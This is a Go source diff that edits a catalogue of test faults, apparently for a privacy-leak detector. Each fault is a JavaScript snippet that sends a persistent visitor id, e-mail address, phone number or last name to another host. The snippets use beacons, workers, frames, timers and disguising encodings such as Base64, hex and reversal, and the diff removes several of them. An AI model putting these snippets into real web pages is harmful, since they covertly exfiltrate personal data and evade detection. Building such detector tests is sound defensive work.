@@ -21,8 +21,6 @@ func mappLeaks() []Fault {
 			"new Image().src = address.replace(\"https://\", `https://v${kept}.`);"),
 		keeping("sends-eid-in-a-header", "A second request carries the ever-id in a header of its own", leaked,
 			`fetch(`+elsewhere+`, { headers: { "X-Visitor": kept } }).catch(() => {});`),
-		keeping("sends-eid-as-referrer", "A second request carries the ever-id in its Referer", leaked,
-			"fetch("+elsewhere+", { mode: \"no-cors\", referrer: `${location.origin}/?v=${kept}`, referrerPolicy: \"unsafe-url\" }).catch(() => {});"),
 		keeping("sends-eid-from-a-worker", "A worker sends the ever-id", leaked,
 			"new Worker(URL.createObjectURL(new Blob([`fetch(\"${"+elsewhere+"}?v=${kept}\", { mode: \"no-cors\" })`])));"),
 		keeping("sends-eid-from-a-frame", "A frame is opened whose address holds the ever-id", leaked,
@@ -37,10 +35,6 @@ func mappLeaks() []Fault {
 			`window.addEventListener("pagehide", () => navigator.sendBeacon(`+elsewhere+`, kept));`),
 		keeping("sends-eid-some-seconds-later", "The first anonymous page sends the ever-id after twenty seconds", leaked,
 			"setTimeout(() => { new Image().src = `${"+elsewhere+"}?v=${kept}`; }, 20000);"),
-		keeping("sends-eid-as-a-form-part", "A form of several parts carries the ever-id", leaked,
-			`const form = new FormData();
-      form.append("ref", kept);
-      fetch(`+elsewhere+`, { method: "POST", mode: "no-cors", body: form }).catch(() => {});`),
 	}
 }
 
@@ -51,12 +45,8 @@ func mappEncodings() []Fault {
 	return []Fault{
 		keeping("sends-eid-in-base64", "The first anonymous request carries the ever-id in Base64", canary,
 			`fields.push(["cs1", btoa(kept)]);`),
-		keeping("sends-eid-in-hex", "The first anonymous request carries the ever-id's characters in hex", canary,
-			`fields.push(["cs1", Array.from(kept, (c) => c.charCodeAt(0).toString(16)).join("")]);`),
 		keeping("sends-eid-in-layers", "The first anonymous request carries the ever-id in Base64 in JSON in Base64", canary,
 			`fields.push(["cs1", btoa(JSON.stringify({ user: { ref: btoa(kept) } }))]);`),
-		keeping("sends-eid-backwards", "The first anonymous request carries the ever-id in reverse", canary,
-			`fields.push(["cs1", Array.from(kept).reverse().join("")]);`),
 		keeping("sends-eid-hashed", "The first anonymous request carries the SHA-256 of the ever-id", canary,
 			`fields.push(["cs1", sha256(kept)]);`),
 		keeping("sends-eid-in-gzip", "A second request carries the ever-id in a body packed with gzip", canary,
@@ -72,10 +62,6 @@ func mappEncodings() []Fault {
         new Image().src = `+"`${"+elsewhere+"}?h=${hex}`;"+`
       });
     }`),
-		leak("sends-the-email-in-the-name-of-a-page", "An anonymous request has the e-mail address in the page's address, in Base64", canary,
-			"if (told.customer.email) { sent.push([\"ref\", `${location.href}#u=${btoa(told.customer.email)}`]); }"),
-		leak("sends-the-phone-in-hex", "An anonymous request carries the telephone number's characters in hex", canary,
-			`if (told.customer.telephone) { sent.push(["cs2", Array.from(String(told.customer.telephone), (c) => c.charCodeAt(0).toString(16)).join("")]); }`),
 		leak("sends-the-phone-as-json-of-a-worker", "A worker sends the telephone number in JSON", canary,
 			`if (told.customer.telephone) {
       const body = JSON.stringify(JSON.stringify({ call: { back: String(told.customer.telephone) } }));
@@ -86,7 +72,5 @@ func mappEncodings() []Fault {
       const body = new Uint16Array(Array.from("n=" + told.customer.lastName, (c) => c.charCodeAt(0)));
       fetch(`+elsewhere+`, { method: "POST", mode: "no-cors", body }).catch(() => {});
     }`),
-		leak("sends-the-email-when-the-page-is-left", "An anonymous page sends the e-mail address when it is left", canary,
-			`if (told.customer.email) { window.addEventListener("pagehide", () => navigator.sendBeacon(`+elsewhere+`, JSON.stringify({ to: told.customer.email }))); }`),
 	}
 }
